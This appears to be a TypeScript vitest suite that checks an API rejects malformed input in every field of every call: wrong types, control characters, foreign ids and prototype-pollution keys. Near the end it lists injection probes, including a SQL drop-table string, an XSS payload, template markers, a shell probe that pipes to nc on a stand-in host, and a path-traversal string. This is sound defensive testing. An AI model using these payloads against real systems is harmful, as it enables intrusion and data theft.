import { type CallName, callNames } from '@gatehouse/contract/calls'
import type { ErrorBody } from '@gatehouse/contract/errorItems'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { issueRegistrationTicket } from '../../src/federation/partners/registrationTicket.ts'
import { newSecret } from '../../src/platform/crypto/secrets.ts'
import { partnerPlayer } from '../fixtures/partners/partnerPlayer.ts'
import { inTurn } from '../fixtures/isThorough.ts'
import { guarded } from '../fixtures/samples/guarded.ts'
import { registerForm, signedInPlayer } from '../fixtures/samples/samplePlayers.ts'
import { serviceDeployment } from '../fixtures/services.ts'
import {
  type Field,
  fieldsOf,
  type FieldType,
  plainValues,
  sampleRequest,
  type Values,
} from '../fixtures/samples/sampleRequest.ts'
import { startApp, type TestApp } from '../fixtures/startApp.ts'
import type { TestVisitor } from '../fixtures/testVisitor.ts'
import { whatIsLeft } from '../fixtures/whatIsLeft.ts'

/* Invalid values for single fields: for every field of every call, derived from the call table. By day a
   field has one value of a list, and the next field the next one; at night each has all. */

let app: TestApp
let player: TestVisitor
let userId: number
/** A partner's player: some calls are for partners' players only. */
let partnered: TestVisitor
let partneredId: number
/** The registration ticket of a partner's new player. */
let ticket: string

beforeAll(async () => {
  app = await startApp({
    settings: { LIMITS: 'off' },
    deployments: { local: { ...guarded, ...serviceDeployment } },
  })
  player = await signedInPlayer(app, registerForm({ Username: 'Target' }))
  userId = (await player.readToken()).Id_User
  partnered = await partnerPlayer(app, 'relic', 'Pat')
  partneredId = (await partnered.readToken()).Id_User
  const browser = newSecret()
  partnered.jar.set('sso_flow', browser)
  ticket = await issueRegistrationTicket(
    app.services,
    app.deployment('relic'),
    'registration',
    browser,
    {
      partner: 'relic',
      subject: '77',
      email: 'new@relic.test',
      steam: null,
      epicGames: null,
    },
  )
})
afterAll(() => app.close())

const fields = callNames.flatMap(fieldsOf)
const ofType = (type: FieldType) => fields.filter((field) => field.type === type)

/** Where a field error is shown, when it is not under the field's own name. */
const shownAt: Readonly<Record<string, string>> = {
  Confirm: 'ConfirmPassword',
  email: 'Email',
  AccessKeyValue: '',
  ReCAPTCHAToken: '',
  Token: '',
  Uid: '',
  VerificationCode: '',
  SteamId: '',
}

/** Texts of several lines may contain tabs and line breaks. */
const ofLines = new Set([
  'DeletionReason',
  'AdditionnalMessage',
  'Influencers',
  'OtherSocialNetworks',
  'OtherGameinformationources',
  'OtherGamingWebsites',
  'OtherStudios',
])

/** What a person types is cleaned of what cannot be seen, and of blanks that others mean. */
const typedByPersons = new Set(
  [...ofLines].concat(
    'Username UsernameOrEmail Email ConfirmEmail email Firstname Lastname Name Referrer'.split(' '),
    'DateOfBirth Number Value AccessKeyValue Country EnrolmentCode'.split(' '),
  ),
)
/** Codes and dates have no room for a blank of any kind. */
const withoutBlanks = new Set(['DateOfBirth', 'Number', 'Value', 'AccessKeyValue', 'EnrolmentCode'])
const isCleaned = ({ name }: Field, character: string) =>
  (typedByPersons.has(name) && ['\u202e', '\ufeff', '\t'].includes(character)) ||
  (withoutBlanks.has(name) && /^\s+$/.test(character))
/** A password may have every sign that is no control. */
const isOfPassword = ({ name }: Field, character: string) =>
  /password|^confirm$/i.test(name) && !/[\p{Cc}\p{Cs}]/u.test(character)

/** This field ignores every value that it does not know. */
const isIgnored = ({ name }: Field) => name === 'include'

/** A linking is refused that would lead to a place that none allows. */
const linkingCalls = new Set<CallName>(
  callNames.filter((call) => /^(steam|epicGames|twitch|gamePass|xbox|psn|discord)/.test(call)),
)

/** What an address brought along decides nothing: a text that does not fit counts as not given. */
const isBroughtAlong = ({ call, name }: Field) =>
  /^(clientId|redirectUrl)$/i.test(name) && call !== 'withdrawSite' && !linkingCalls.has(call)

/** Whatever is sent as a proof counts as a try, so it is refused by its handler. */
const provingCalls: ReadonlySet<CallName> = new Set([
  'secondStep',
  'prove',
  'confirmAuthenticator',
  'actOnSafetyLink',
])
const isProof = ({ call, name }: Field) =>
  (name === 'Code' && provingCalls.has(call)) || (name === 'Password' && call === 'prove')

/** Log-out and freeze end the session, and these callbacks take any text. */
const unrepeatable: ReadonlySet<CallName> = new Set([
  'logOut',
  'freeze',
  'steamCallback',
  'serviceLogIn',
  'proveByService',
])

/** The art of a card lies with the built portal, which is not here. */
const isWithoutPortal = (call: CallName, status: number) =>
  call === 'makePlayerCard' && status === 503

interface Sent {
  readonly status: number
  readonly places: readonly string[]
  readonly body: string
}

const absent = Symbol('absent')

const isRegistration = (call: CallName) =>
  call === 'registerNewUser' || call === 'registerWithService'

function valuesOf(call: CallName, part: Field['part']): Values {
  const values = plainValues(call, part)
  if (part === 'query') return values
  if (call === 'registerPartnerUser') return { ...values, Token: ticket }
  // A filled honeypot marks a robot's form, and nothing of such a form is read.
  return isRegistration(call) ? { ...values, UsageNameHoneyPot: '' } : values
}

async function send({ call, part, name }: Field, value: unknown): Promise<Sent> {
  const { [name]: _, ...others } = valuesOf(call, part)
  const values = value === absent ? others : { ...others, [name]: value }
  return sendTo(call, { [part]: values })
}

async function sendTo(call: CallName, given: Parameters<typeof sampleRequest>[1]): Promise<Sent> {
  const isPartners = call === 'deletePartnerUser' || call === 'registerPartnerUser'
  const [sender, id] = isPartners ? [partnered, partneredId] : [player, userId]
  const { statusCode: status, body } = await sender.send(
    sampleRequest(call, { userId: id, body: valuesOf(call, 'body'), ...given }),
  )
  const items = status === 400 ? (JSON.parse(body) as ErrorBody).ErrorMessages : []
  return { status, places: items.map(({ Property }) => Property), body }
}

const describeAnswer = ({ call, name }: Field, value: unknown, body: string): string =>
  `${call} ${name} ${JSON.stringify(value).slice(0, 40)}: ${body}`

/**
 * Sends each field its values in turn; returns those that were not refused under the field's name.
 */
async function notRefused(
  of: readonly Field[],
  wrongOf: (field: Field) => readonly unknown[],
): Promise<unknown[]> {
  const before = await whatIsLeft(app)
  const found: unknown[] = of.length === 0 ? ['nothing was sent'] : []
  for (const [turn, field] of of.entries()) {
    // The answer to a query names no field.
    const place = field.part === 'query' ? '' : (shownAt[field.name] ?? field.name)
    for (const value of inTurn(wrongOf(field), turn)) {
      const { status, places, body } = await send(field, value)
      const isRefused = status === 400 && places.includes(place)
      if (!isRefused) found.push(describeAnswer(field, value, body))
    }
  }
  if ((await whatIsLeft(app)) !== before) found.push('something is left')
  return found
}

const wrongTypes: Readonly<Record<FieldType, readonly unknown[]>> = {
  string: [1, true, [], {}],
  boolean: ['true', 'false', '', 1, 0, 'on', [], {}],
  integer: ['1', '', true, 1.5, 1e308, [], [1], {}],
  array: ['x', 1, true, {}, [1], [null]],
  object: ['x', 1, true, []],
}

/** The values of a wrong type for a field; a query holds texts only. */
function wrongTypesOf({ part, type, isNullable }: Field): readonly unknown[] {
  if (part === 'query') return []
  return isNullable ? wrongTypes[type] : [...wrongTypes[type], null]
}

const refusedTexts = () =>
  ofType('string').filter((field) => !isIgnored(field) && !isProof(field) && !isBroughtAlong(field))

describe('every field of every call', () => {
  it('is never refused for a text that an address brought along', async () => {
    const along = ofType('string').filter((field) => isBroughtAlong(field))
    expect(along.map(({ call }) => call)).toEqual(
      expect.arrayContaining(['identify', 'logIn', 'passkeyLogIn', 'registerNewUser']),
    )
    const refused: unknown[] = []
    for (const field of along) {
      for (const value of ['x'.repeat(10_000), 'a\u0001b', 'https://evil.io/\u202e', '\ud800']) {
        if (field.part === 'query' && value === '\ud800') continue
        const { places, body } = await send(field, value)
        if (places.includes(field.name)) refused.push(describeAnswer(field, value, body))
      }
    }
    expect(refused).toEqual([])
  })

  it('is the one that is refused when it is too long or null, and never causes an internal error (X07)', async () => {
    const texts = refusedTexts()
    expect(await notRefused(texts, () => ['x'.repeat(10_000)])).toEqual([])
    const nulls = fields.filter(
      (field) => field.part === 'body' && !field.isNullable && !isProof(field),
    )
    expect(await notRefused(nulls, () => [null])).toEqual([])
    const broken: unknown[] = []
    for (const [turn, field] of fields.entries()) {
      for (const value of [absent, ...inTurn(['', ' '], turn)]) {
        const { status, body } = await send(field, value)
        const isAnswer = [200, 201, 400].includes(status) || isWithoutPortal(field.call, status)
        const isMissed = status < 400 && value === absent && field.isRequired
        const given = value === absent ? 'nothing' : value
        if (!isAnswer || isMissed) broken.push(describeAnswer(field, given, body))
      }
    }
    expect(broken).toEqual([])
  })

  it('is the one that is refused when it has another type (L02, X08)', async () => {
    const typed = fields.filter((field) => !isProof(field))
    expect(await notRefused(typed, wrongTypesOf)).toEqual([])
  })

  it('is the one that is refused when it contains hidden characters (X09)', async () => {
    const some = ['\u0001', '\b', '\t', '\u000b', '\u001b', '\u001f', '\u007f']
    const hidden = ['\u202e', '\ufeff', '\r\n', ...some]
    // A query can hold neither: a NUL is refused earlier, and a lone surrogate is not UTF-8.
    const inBodies = ['\u0000', '\ud800']
    const inLines = new Set(['\t', '\n', '\r', '\r\n'])
    const texts = refusedTexts()
    const hiddenIn = (field: Field) =>
      [...hidden, ...(field.part === 'body' ? inBodies : [])]
        .filter((character) => !(ofLines.has(field.name) && inLines.has(character)))
        .filter((character) => !isCleaned(field, character) && !isOfPassword(field, character))
        .map((character) => `a${character}b`)
    expect(await notRefused(texts, hiddenIn)).toEqual([])
    const everyControl = Array.from(
      { length: 32 },
      (_, at) => `a${String.fromCodePoint(at)}b`,
    ).filter((text) => text !== 'a\tb')
    const usernames = texts.filter(({ name, call }) => name === 'Username' && !isRegistration(call))
    expect(await notRefused(usernames, () => everyControl)).toEqual([])
  })

  const notIds = [
    '0',
    '-1',
    '1.5',
    '1e3',
    '0x10',
    '9999999999999999999',
    ' 1',
    '1 ',
    '01',
    '+1',
    'abc',
    'null',
    '[1]',
    '6F9619FF-8B86-D011-B42D-00CF4FC964FF',
  ]

  it('is refused when it is a player id other than the caller’s (X10)', async () => {
    const other = await signedInPlayer(app, registerForm({ Username: 'Other' }))
    const otherId = String((await other.readToken()).Id_User)
    const ofUsers = callNames.filter((name) => sampleRequest(name, { userId: 7 }).url.includes('7'))
    expect(ofUsers.length).toBeGreaterThan(9)
    const before = await whatIsLeft(app)
    const found: unknown[] = []
    for (const call of ofUsers) {
      const ids = call === 'logInUser' ? notIds : [...notIds, otherId, '999999']
      for (const id of ids) {
        const request = sampleRequest(call, { userId: encodeURIComponent(id) })
        const { statusCode, body } = await player.send(request)
        const isRefused =
          body === '{"ErrorMessages":[{"Property":"","ErrorMessage":"ERROR_NOT_ALLOWED"}]}'
        if (statusCode !== 400 || !isRefused) found.push([call, id, statusCode, body])
      }
    }
    expect(found).toEqual([])
    expect(await whatIsLeft(app)).toBe(before)
  })

  it('is refused when it is an id in another form (X10)', async () => {
    // The ticket decides the partner's identity: the form's value is not read.
    const ids = ofType('integer').filter(({ name }) => /^Id_(?!SSO)|Id$/.test(name))
    expect(ids.map(({ name }) => name)).toContain('userBlockedId')
    const before = await whatIsLeft(app)
    const found: unknown[] = []
    for (const field of ids) {
      for (const id of [...notIds, 0, -1, 1.5, 1e20, [1], {}]) {
        const { status, places, body } = await send(field, id)
        const isRefused = status === 400 && places.some((at) => at === '' || at === field.name)
        if (!isRefused) found.push(describeAnswer(field, id, body))
      }
    }
    expect(found).toEqual([])
    expect(await whatIsLeft(app)).toBe(before)
  })

  it('is refused when it is a flag with a value other than true and false (X11)', async () => {
    const flags = ofType('boolean')
    expect(flags.length).toBeGreaterThan(10)
    expect(await notRefused(flags, () => ['true', 1, 'on'])).toEqual([])
    const decided = flags.filter(({ isNullable }) => !isNullable)
    expect(await notRefused(decided, () => [null])).toEqual([])
  })

  it('has no unknown field beside it that has an effect (X12)', async () => {
    const strays =
      '"IsAdmin":true,"id":1,"__proto__":{"isAdmin":true},"constructor":{"prototype":{"isAdmin":true}}'
    const found: unknown[] = []
    for (const call of callNames) {
      if (unrepeatable.has(call)) continue
      const body = JSON.stringify(valuesOf(call, 'body'))
      const query = new URLSearchParams(
        plainValues(call, 'query') as Record<string, string>,
      ).toString()
      const more = body === '{}' ? `{${strays}}` : `${body.slice(0, -1)},${strays}}`
      const plain = await sendTo(call, { body, query })
      const rowsBefore = plain.status === 400 ? await whatIsLeft(app) : ''
      const stray = `${query}&IsAdmin=true&__proto__=x&constructor=x&toString=x`
      const withStrays = await sendTo(call, { body: more, query: stray })
      const isSame =
        plain.status === withStrays.status &&
        (withStrays.status !== 400 || plain.body === withStrays.body)
      const isLeft = rowsBefore !== '' && (await whatIsLeft(app)) !== rowsBefore
      if (!isSame || isLeft) found.push([call, plain, withStrays, isLeft])
    }
    expect(found).toEqual([])
    expect(({} as { isAdmin?: boolean }).isAdmin).toBeUndefined()
  })

  const probes = [
    "' or 1=1; drop table players; --",
    '<img src=x onerror=alert(1)>',
    '{{7*7}}${7*7}<%=7*7%>#{7*7}',
    '$(sleep 5)`id`|nc evil.test',
    '../../etc/passwd',
  ]

  it('treats words of SQL, HTML, templates or shells like any other text (X14)', async () => {
    const found: unknown[] = []
    for (const [turn, field] of ofType('string').entries()) {
      const texts = [await send(field, 'Words of 3 kinds; and more.'), await send(field, 'word')]
      for (const probe of inTurn(probes, turn)) {
        const { status, body } = await send(field, probe)
        const isLikeAny = texts.some((text) => text.status === status)
        if (!isLikeAny) found.push(describeAnswer(field, probe, body))
      }
    }
    expect(found).toEqual([])
  })

  it('is stored as it was typed (X14)', async () => {
    const [Firstname = '', Lastname = ''] = probes
    const body = registerForm({ Username: 'Typed', Firstname, Lastname })
    await app.visitor('two-point-studios').call('registerNewUser', { body })
    const kept = await app.services.database.kysely
      .selectFrom('players')
      .select(['firstname', 'lastname'])
      .where('username', '=', 'Typed')
      .executeTakeFirst()
    expect(kept).toEqual({ firstname: Firstname, lastname: Lastname })
  })
})
